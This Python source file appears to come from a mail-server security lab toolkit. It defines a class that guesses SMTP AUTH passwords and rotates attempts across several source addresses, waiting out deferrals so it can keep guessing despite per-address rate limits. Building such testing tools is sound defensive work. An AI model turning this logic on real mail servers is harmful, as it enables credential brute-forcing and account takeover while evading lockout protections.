"""Guesses passwords from one address or several, and keeps going when a server puts it off."""

from collections import Counter, deque
from collections.abc import Iterable, Iterator, Sequence

from labkit.attacker.means.guesses import Guess
from labkit.attacker.means.visitor import Visitor, left, trouble
from labkit.attacker.report import Attempt, Finding, Verdict
from labkit.attacker.scene import Scene
from labkit.errors import PeerError
from labkit.smtp.reply import Reply

WAIT = 61.0  # seconds of lab time, until an address that was put off tries again: limits are by the minute
WRONG_FOR_NOW = 435  # what soft_bounce makes of 535


class Guesser:
    """Each guess comes from the next address, for up to ``minutes`` of lab time.

    ``heard`` is how many guesses were judged, ``found`` the passwords by user.
    """

    def __init__(self, visitors: Sequence[Visitor], scene: Scene, minutes: int) -> None:
        self.heard, self.found = 0, dict[str, str]()
        self._scene, self._begun, self._seconds = scene, scene.clock.elapsed, 60.0 * minutes
        self._ready, self._resting = deque(visitors), deque[Visitor]()
        self._answers: Counter[str] = Counter()
        self._addresses = {visitor.source.address for visitor in visitors}
        self._sessions: dict[str, int] = {}

    async def try_all(self, rounds: Iterable[list[Guess]], count: int, pause: float) -> None:
        """Make up to ``count`` guesses, with ``pause`` seconds of lab time before each next password."""
        for guesses in rounds:
            for guess in guesses:
                if guess.user in self.found:
                    continue
                if not count or not await self._guess(guess):
                    return
                count -= 1
            await self._scene.clock.advance(pause)

    async def leave(self) -> None:
        """Hang up everywhere."""
        for visitor in (*self._ready, *self._resting):
            await left(visitor)

    @property
    def minutes(self) -> float:
        """How much lab time it has taken so far."""
        return (self._scene.clock.elapsed - self._begun) / 60

    def findings(self) -> Iterator[Finding]:
        """The passwords, with the answer to each; and what was answered to all other guesses."""
        for user, password in self.found.items():
            yield Finding(f"{user}'s password: {password}", "it logs in", self._sessions[user])
        for said, count in self._answers.most_common():
            yield Finding(f"{count:,} × {said}", "the answer to AUTH", self._sessions[said], harm=False)

    async def _guess(self, guess: Guess) -> bool:
        """Have a guess judged, however often it is put off; False when there is no time any more."""
        while self.minutes * 60 < self._seconds:
            if not self._ready:
                await self._scene.clock.advance(WAIT)
                self._ready, self._resting = self._resting, self._ready
                continue
            visitor = self._ready.popleft()
            answer = await self._try(visitor, guess)
            if answer and (not answer.is_transient or answer.code == WRONG_FOR_NOW):
                self._ready.append(visitor)
                return True
            self._resting.append(visitor)
        return False

    async def _try(self, visitor: Visitor, guess: Guess) -> Reply | None:
        """The answer to a guess; None when there was no connection."""
        try:
            answer = await visitor.login(*guess)
        except PeerError as error:
            self._note(trouble(error), visitor)
            await left(visitor)
            return None
        verdict = Verdict.DEFERRED if answer.is_transient else Verdict.REFUSED
        self._scene.progress(Attempt("", verdict, "AUTH", answer, visitor.session))
        if not answer.is_positive:
            self._note(str(answer), visitor)
            self.heard += not answer.is_transient
            return answer
        self.heard += 1
        self.found[guess.user] = guess.password
        self._sessions[guess.user] = visitor.session
        await left(visitor)  # whoever has logged in can't do so again (RFC 4954 section 4)
        return answer

    def _note(self, said: str, visitor: Visitor) -> None:
        # The same answer to many addresses is one: a star stands for each of them.
        if len(self._addresses) > 1:
            said = said.replace(visitor.source.address, "*")
        self._answers[said] += 1
        self._sessions.setdefault(said, visitor.session)
